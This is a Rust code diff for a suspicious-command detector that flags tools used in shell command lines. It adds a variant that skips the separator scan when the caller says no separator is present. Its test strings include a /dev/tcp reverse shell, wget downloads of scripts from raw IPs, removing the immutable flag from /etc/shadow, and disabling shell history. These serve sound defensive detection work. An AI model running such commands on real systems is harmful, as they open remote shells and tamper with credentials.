@@ -65,9 +65,21 @@ impl Found {
 
 /// Flagged tools in `s`, in order of appearance; empty when `s` is not a
 /// suspicious command line.
+#[cfg(test)]
 pub(crate) fn flag_tools(s: &str) -> Vec<&'static str> {
+    flag_tools_in(s, true)
+}
+
+/// Flagged tools in `s`, for a caller that already knows whether `s` has a command
+/// separator (`; | & \` ( )` or newline); without one the whole string is a
+/// single simple command and the separator scan is skipped.
+pub(crate) fn flag_tools_in(s: &str, has_separator: bool) -> Vec<&'static str> {
     let mut found = Found::default();
-    line(s, 0, &mut found);
+    if has_separator {
+        line(s, 0, &mut found);
+    } else {
+        segment(s, false, 0, &mut found);
+    }
     if dev_socket(s.as_bytes()) {
         found.push("/dev/tcp");
     }
@@ -581,6 +593,25 @@ mod tests {
             "chattr %s (%s)",
         ] {
             assert!(flag_tools(s).is_empty(), "{s:?} gave {:?}", flag_tools(s));
+        }
+    }
+
+    #[test]
+    fn separator_hint_does_not_change_results() {
+        for s in [
+            "wget http://1.2.3.4/x.sh",
+            "chmod 777 x.sh",
+            "sh -c \"wget http://a.b.com/x -O /tmp/x\"",
+            "nohup ./bot > /dev/null 2>&1",
+            "HISTFILE=/dev/null",
+            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
+            "sudo /usr/bin/chattr -i /etc/shadow",
+            "Usage: wget [OPTION]... [URL]...",
+            "",
+            "   ",
+        ] {
+            let has_sep = s.bytes().any(|b| SEPARATORS[usize::from(b)]);
+            assert_eq!(flag_tools_in(s, has_sep), flag_tools(s), "{s}");
         }
     }
 
